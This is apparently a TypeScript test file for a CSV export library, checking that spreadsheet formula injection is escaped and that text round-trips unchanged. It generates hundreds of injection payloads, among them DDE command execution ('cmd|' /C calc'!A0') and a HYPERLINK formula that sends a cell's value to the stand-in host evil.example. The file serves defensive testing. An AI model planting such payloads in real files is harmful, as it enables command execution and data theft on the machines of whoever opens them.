import { parse } from 'csv-parse/sync';
import { readCsv, writeCsv } from './csv.ts';
import { escapeFormula, unescapeFormula } from './formula.ts';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const before = ['', ' ', '  ', '\u00a0', '\ufeff', '\u200b', "'", '"', '\t', '\r\n', '\v', '\0'];
const formulas = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?x="&A1,"ISO")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  '1+1',
];
/** More than three hundred texts that some spreadsheet would compute. */
const payloads = before.flatMap((lead) =>
  starts.flatMap((start) => formulas.map((formula) => `${lead}${start}${formula}`)),
);

/** What a spreadsheet passes over before it looks whether a cell is a formula. */
const live = /^[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/;

async function written(texts: readonly string[], language: 'fr' | 'en'): Promise<Uint8Array> {
  const chunks: Uint8Array[] = [];
  const columns = [
    { key: 'a', label: '=A()' },
    { key: 'b', label: 'B' },
  ];
  for await (const chunk of writeCsv(
    columns,
    texts.map((text) => ({ a: text, b: [text, text] })),
    { language },
  ))
    chunks.push(chunk);
  return Buffer.concat(chunks);
}

describe('three hundred formulas', () => {
  it('are tried', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(360);
    expect(payloads.filter((text) => live.test(text)).length).toBeGreaterThanOrEqual(300);
  });

  it.each([
    ['fr', ';'],
    ['en', ','],
  ] as const)('are live in no cell of a file in %s', async (language, delimiter) => {
    const text = Buffer.from(await written(payloads, language))
      .toString('utf8')
      .slice(1);
    const rows = parse(text, { delimiter, record_delimiter: '\r\n' }) as string[][];
    expect(rows.length).toBe(payloads.length + 1);
    expect(rows.flat().filter((cell) => live.test(cell))).toEqual([]);
  });

  it('come back as they were', async () => {
    const back: string[] = [];
    const bytes = await written(payloads, 'fr');
    async function* once() {
      yield bytes;
    }
    for await (const row of readCsv(once())) back.push(row['=A()']!);
    expect(back).toEqual(payloads);
  });
});

describe('a text', () => {
  it.each(['ISO/TC 307', 'l’été', '12,5', '', "d'accord", '« = »', 'a=b', '5-2', '1@2', "'tis", ' x'])('that is no formula stays: %j', (text) => {
    expect(escapeFormula(text)).toBe(text);
    expect(unescapeFormula(text)).toBe(text);
  });
}); // prettier-ignore
